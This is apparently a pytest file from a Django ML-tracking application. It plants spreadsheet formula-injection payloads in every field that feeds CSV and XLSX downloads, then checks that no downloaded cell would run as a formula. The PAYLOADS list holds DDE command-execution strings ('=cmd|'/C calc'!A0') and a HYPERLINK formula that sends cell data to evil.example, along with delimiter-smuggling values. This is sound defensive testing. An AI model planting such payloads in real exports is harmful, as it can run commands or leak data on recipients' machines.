"""Formulas in every CSV that can be downloaded, for spreadsheets of every language."""

from __future__ import annotations

import csv
import io
import math
import re
from dataclasses import replace
from itertools import product
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from kpis.models import KPI
from kpis.services.readings import record_readings
from kpis.services.results import keep_result
from mltrack.accounts.access import Principal
from mltrack.file_answer import XLSX
from projects.models import DatasetVersion, Finding, Initiative
from projects.progress.faults import Fault
from projects.services.annotation_pushes import record_annotations
from projects.services.columns import choose_columns
from projects.services.data_sources import create_source
from projects.services.datasets import record_dataset
from projects.services.deployments import record_deployment
from projects.services.findings import explain_finding, keep_fault
from projects.services.label_audits import discard_audit, draw_audit
from projects.services.label_batches import tie_batch
from projects.services.labeling_snapshots import SnapshotRecord, record_labeling_snapshot
from projects.services.observations import record_observations
from projects.services.planned_stops import plan_stop
from projects.services.pushes import push_runs
from projects.services.task_pushes import push_tasks
from tests.browser.worlds import World
from tests.kpis.rival_world import counted, measured
from tests.projects.labeling_world import pushed
from tests.sheets import differences, opened, table_rows
from tests.trust.attacks.paths import every_path

pytestmark = pytest.mark.django_db
STARTS = "=+-@＝＋－＠"
PAYLOADS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "x;=1+1",
    "x; @SUM(A1)",
    'x";=1+1;"',
    "x,=1+1",
    '","=1+1',
    "-",
    "=",
]


def is_formula(cell: str) -> bool:
    """Say whether a spreadsheet would run a cell."""
    try:
        return not math.isfinite(float(cell)) and cell[:1] in STARTS
    except ValueError:
        return (cell.lstrip(' "\u00a0')[:1] or "x") in STARTS


def formulas(text: str) -> list[str]:
    """Return the cells that would run, whatever the spreadsheet takes for the end of a cell."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    pieces = re.split(r"[;\t\r\n]", text)
    return [each for each in (*cells, *pieces) if is_formula(each)]


def downloads(world: World, client: Client) -> tuple[dict[str, str], dict[str, bytes]]:
    """Return every download of the product that is CSV, and that is XLSX, by the name of its path."""
    found, books = {}, {}
    for name, path in every_path(world):
        answer = client.get(path)
        if answer.headers.get("Content-Type", "").startswith("text/csv"):
            assert "attachment" in answer.headers["Content-Disposition"]
            found[name] = answer.getvalue().decode()
        if answer.headers.get("Content-Type") == XLSX:
            assert "attachment" in answer.headers["Content-Disposition"]
            books[name] = answer.getvalue()
    return found, books


def plant(world: World) -> World:
    """Write the payloads wherever a row of a download may show them, and return the world with where they are."""
    biopsy = Initiative.objects.get(key="BIOPSY")
    person = Principal(workspace=biopsy.workspace, role="admin", user=world.user, is_approver=True)
    runs: list[dict[str, Any]] = []
    for number, text in enumerate(PAYLOADS):
        named = {text: text}
        run = {"external_id": f"{text}{number}", "name": text, "status": "finished", "params": named, "tags": named}
        runs.append({**run, "metrics": {text: number}})
    outcome = push_runs(person, biopsy, runs)
    assert outcome
    columns = [f"{kind}:{text}" for kind, text in product(("metric", "param"), PAYLOADS)][:30]
    choose_columns(person, biopsy, columns)
    rows = [(text, text, 9000, True, True, 50) for text in PAYLOADS]
    planted = replace(counted(*rows), slice_columns=("=cmd|",), group_columns=("@cmd|",))
    evaluation = measured(biopsy, "planted", planted, family="=cmd|")
    measured(biopsy, "planted in production", planted, name="=cmd|' /C calc'!A0", purpose="production")
    kpi = KPI.objects.get(key=world.full["k"])
    readings = [{"time": timezone.now(), "value": 1.0, "segment": text.strip()} for text in PAYLOADS]
    record_readings(kpi, readings, person)
    for text in PAYLOADS:
        asked = {"method": "before_after", "since": "2026-01-05", "segment": text.strip(), "note": text}
        keep_result(person, biopsy, kpi, **asked)
    for number, text in enumerate(PAYLOADS):
        record_dataset(person, biopsy, name=text, digest=f"{text}{number}", uri=text)
        record_deployment(person, biopsy, environment=f"eu {number}", version=text)
    shown = [text.strip() for text in PAYLOADS if text.strip().isprintable()]
    volume = {"kind": "volume", "time": timezone.now().isoformat(), "value": 1}
    record_observations(
        person,
        biopsy,
        [{**volume, "name": each, "segment": each, "method": each[:60]} for each in dict.fromkeys(shown)],
    )
    today = timezone.now().date()
    for number, text in enumerate(dict.fromkeys(shown)):
        fed: dict[str, Any] = {"name": text[:120], "note": text, "features": [(biopsy.key, text)]}
        source = create_source(person, key=f"planted-{number}", **fed)
        plan_stop(person, first_day=today, last_day=today, reason=text, segment=text, source=source)
    for number, text in enumerate(dict.fromkeys(shown)):
        fault = Fault(f"drift:{number}", "drift", text[:120], text[:120], "warning", text, {})
        keep_fault(biopsy, fault.cause, fault, timezone.now())
        explain_finding(person, Finding.objects.get(cause=fault.cause), text)
    push_tasks(person, biopsy, [{"title": text, "external_id": text} for text in PAYLOADS], atomic=True)
    record_annotations(person, biopsy, [pushed(text, "ann", text, batch=text) for text in PAYLOADS])
    for text in PAYLOADS:
        tie_batch(person, biopsy, batch=text, dataset=DatasetVersion.objects.get(initiative=biopsy, name=text))
    for each in biopsy.label_audits.filter(state="open"):
        discard_audit(person, each, reason="For another.")
    audit, _ = draw_audit(person, biopsy, n=9_000)
    counted_classes = dict.fromkeys(PAYLOADS, 1)
    record_labeling_snapshot(person, biopsy, SnapshotRecord(timezone.now(), 100, 40, per_class=counted_classes))
    KPI.objects.filter(pk=kpi.pk).update(name="=cmd|'/C calc'!A0")
    Initiative.objects.filter(pk=biopsy.pk).update(name="=cmd|'/C calc'!A0", owner=None)
    return replace(world, full={**world.full, "audited": evaluation.public_id, "label_audit": audit.public_id})


# Downloads of numbers and of our own words alone.
OF_OURS = (
    "kpis:flow_csv",
    "kpis:forecasts_csv",
    *(f"kpis:analysis_{table}_csv" for table in ("funnel", "reasons", "incidence", "stage_times", "effort")),
)


def test_no_cell_of_any_download_runs(world: World, client: Client) -> None:
    found, books = downloads(plant(world), client)
    evaluated = {f"kpis:evaluation_{name}_csv" for name in ("cells", "fairness", "parts", "versus")}
    listed = {
        "kpis:label_audit_csv",
        "kpis:labeling_overview_csv",
        "kpis:labeling_datasets_csv",
        "kpis:labeling_snapshots_csv",
        "kpis:kpi_export_csv",
        "kpis:kpi_periods_csv",
        "kpis:runs_csv",
        "kpis:evaluations_csv",
        "kpis:attempts_csv",
        "kpis:datasets_csv",
        "kpis:deployments_csv",
        "kpis:production_audit_csv",
        "kpis:observed_csv",
        "kpis:findings_csv",
        "projects:sources_csv",
        "projects:stops_csv",
        "kpis:tasks_csv",
        "kpis:flow_csv",
        "kpis:forecasts_csv",
        "kpis:timeline_csv",
        "shared_csv",
        "kpis:analysis_warnings_csv",
        *OF_OURS,
        "kpis:results_csv",
        "kpis:portfolio_csv",
        "kpis:kpis_csv",
    }
    assert set(found) == listed | evaluated
    assert set(books) == {f"{name[:-4]}_xlsx" for name in found}
    for name, text in found.items():
        assert "cmd|" in text or name in OF_OURS, name
        assert formulas(text) == [], name
        book = opened(books[f"{name[:-4]}_xlsx"])
        assert differences(list(csv.reader(io.StringIO(text))), list(table_rows(book))) == [], name


def test_the_reader_knows_a_formula() -> None:
    assert formulas("a,=1\r\n") and formulas('"x;=1"\r\n') and formulas("x\n@SUM(A1)\n")
    assert not formulas("a,'=1,-2.5\r\n")
